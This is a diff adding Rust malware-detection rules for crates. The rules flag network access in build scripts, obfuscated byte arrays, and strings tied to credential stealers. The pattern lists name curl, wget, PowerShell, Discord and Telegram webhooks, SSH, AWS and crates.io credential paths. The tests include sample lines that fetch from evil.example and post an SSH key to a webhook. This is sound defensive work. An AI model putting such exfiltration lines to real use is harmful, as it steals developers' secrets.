@@ -0,0 +1,241 @@
+use super::{File, Finding, Rule};
+
+/// Flags build scripts that appear to download something at build time.
+///
+/// Build scripts run on the machine of everyone that compiles the crate, so
+/// fetching remote code from them is a common way to deliver a payload that
+/// is not visible in the published source code.
+pub struct BuildScriptNetworkAccess;
+
+impl BuildScriptNetworkAccess {
+    const INDICATORS: &'static [&'static str] = &[
+        "reqwest::",
+        "ureq::",
+        "curl::",
+        "hyper::",
+        "TcpStream::connect",
+        "Command::new(\"curl\")",
+        "Command::new(\"wget\")",
+        "Command::new(\"powershell\")",
+        "http://",
+        "https://",
+    ];
+}
+
+impl Rule for BuildScriptNetworkAccess {
+    fn name(&self) -> &'static str {
+        "build-script-network-access"
+    }
+
+    fn check(&self, file: File<'_>) -> Vec<Finding> {
+        if file.path != "build.rs" {
+            return vec![];
+        }
+
+        let indicators = Self::INDICATORS
+            .iter()
+            .filter(|indicator| file.contents.contains(*indicator))
+            .map(|indicator| format!("`{indicator}`"))
+            .collect::<Vec<_>>();
+
+        if indicators.is_empty() {
+            return vec![];
+        }
+
+        vec![Finding {
+            rule: self.name(),
+            path: file.path.to_string(),
+            description: format!(
+                "build script appears to access the network ({})",
+                indicators.join(", ")
+            ),
+            score: 40,
+        }]
+    }
+}
+
+/// Flags Rust source files that contain very long lines consisting almost
+/// entirely of numeric literals, which is how encoded or encrypted payloads
+/// are usually embedded.
+pub struct ObfuscatedByteArrays {
+    /// Lines shorter than this are ignored.
+    min_line_length: usize,
+    /// The minimum ratio of characters that can be part of a byte array
+    /// literal for a line to be flagged.
+    min_ratio: f64,
+}
+
+impl Default for ObfuscatedByteArrays {
+    fn default() -> Self {
+        Self {
+            min_line_length: 1000,
+            min_ratio: 0.95,
+        }
+    }
+}
+
+impl Rule for ObfuscatedByteArrays {
+    fn name(&self) -> &'static str {
+        "obfuscated-byte-array"
+    }
+
+    fn check(&self, file: File<'_>) -> Vec<Finding> {
+        if !file.path.ends_with(".rs") {
+            return vec![];
+        }
+
+        let is_literal_char =
+            |c: char| c.is_ascii_hexdigit() || matches!(c, 'x' | 'u' | '_' | ',' | ' ');
+
+        let line = file.contents.lines().enumerate().find(|(_, line)| {
+            let line = line.trim();
+            if line.len() < self.min_line_length {
+                return false;
+            }
+
+            let literal_chars = line.chars().filter(|c| is_literal_char(*c)).count();
+            literal_chars as f64 / line.len() as f64 >= self.min_ratio
+        });
+
+        let Some((index, line)) = line else {
+            return vec![];
+        };
+
+        vec![Finding {
+            rule: self.name(),
+            path: file.path.to_string(),
+            description: format!(
+                "line {} contains a {} character long byte array literal",
+                index + 1,
+                line.trim().len()
+            ),
+            score: 30,
+        }]
+    }
+}
+
+/// Flags files that contain strings commonly seen in credential stealers and
+/// other known malware.
+pub struct KnownBadPatterns {
+    patterns: Vec<(&'static str, &'static str, i32)>,
+}
+
+impl Default for KnownBadPatterns {
+    fn default() -> Self {
+        Self {
+            patterns: vec![
+                (
+                    "discord.com/api/webhooks",
+                    "sends data to a Discord webhook",
+                    50,
+                ),
+                (
+                    "discordapp.com/api/webhooks",
+                    "sends data to a Discord webhook",
+                    50,
+                ),
+                ("api.telegram.org/bot", "sends data to a Telegram bot", 50),
+                ("pastebin.com/raw", "downloads content from Pastebin", 30),
+                (".ssh/id_rsa", "accesses SSH private keys", 40),
+                (".aws/credentials", "accesses AWS credentials", 40),
+                (".cargo/credentials", "accesses crates.io API tokens", 40),
+            ],
+        }
+    }
+}
+
+impl Rule for KnownBadPatterns {
+    fn name(&self) -> &'static str {
+        "known-bad-pattern"
+    }
+
+    fn check(&self, file: File<'_>) -> Vec<Finding> {
+        self.patterns
+            .iter()
+            .filter(|(pattern, _, _)| file.contents.contains(pattern))
+            .map(|(pattern, description, score)| Finding {
+                rule: self.name(),
+                path: file.path.to_string(),
+                description: format!("{description} (`{pattern}`)"),
+                score: *score,
+            })
+            .collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn check(rule: &dyn Rule, path: &str, contents: &str) -> Vec<Finding> {
+        rule.check(File { path, contents })
+    }
+
+    #[test]
+    fn test_build_script_network_access() {
+        let rule = BuildScriptNetworkAccess;
+
+        let contents =
+            r#"fn main() { Command::new("curl").arg("https://evil.example").status(); }"#;
+        let findings = check(&rule, "build.rs", contents);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(
+            findings[0].description,
+            "build script appears to access the network (`Command::new(\"curl\")`, `https://`)"
+        );
+
+        // Only build scripts are checked
+        assert!(check(&rule, "src/lib.rs", contents).is_empty());
+
+        let contents = r#"fn main() { println!("cargo::rerun-if-changed=build.rs"); }"#;
+        assert!(check(&rule, "build.rs", contents).is_empty());
+    }
+
+    #[test]
+    fn test_obfuscated_byte_arrays() {
+        let rule = ObfuscatedByteArrays::default();
+
+        let bytes = (0..400).map(|i| format!("0x{:02x}", i % 256));
+        let contents = format!(
+            "const PAYLOAD: &[u8] = &[\n{}\n];",
+            bytes.collect::<Vec<_>>().join(", ")
+        );
+        let findings = check(&rule, "src/lib.rs", &contents);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(
+            findings[0].description,
+            "line 2 contains a 2398 character long byte array literal"
+        );
+
+        // Only Rust source files are checked
+        assert!(check(&rule, "data/table.txt", &contents).is_empty());
+
+        // Long lines of regular code are fine
+        let contents = format!("let s = \"{}\";", "hello world ".repeat(100));
+        assert!(check(&rule, "src/lib.rs", &contents).is_empty());
+    }
+
+    #[test]
+    fn test_known_bad_patterns() {
+        let rule = KnownBadPatterns::default();
+
+        let contents = r#"
+            let key = std::fs::read(home.join(".ssh/id_rsa"));
+            post("https://discord.com/api/webhooks/123/abc", key);
+        "#;
+        let findings = check(&rule, "src/main.rs", contents);
+        let descriptions = findings
+            .iter()
+            .map(|finding| finding.description.as_str())
+            .collect::<Vec<_>>();
+        assert_eq!(
+            descriptions,
+            vec![
+                "sends data to a Discord webhook (`discord.com/api/webhooks`)",
+                "accesses SSH private keys (`.ssh/id_rsa`)",
+            ]
+        );
+
+        assert!(check(&rule, "src/main.rs", "fn main() {}").is_empty());
+    }
+}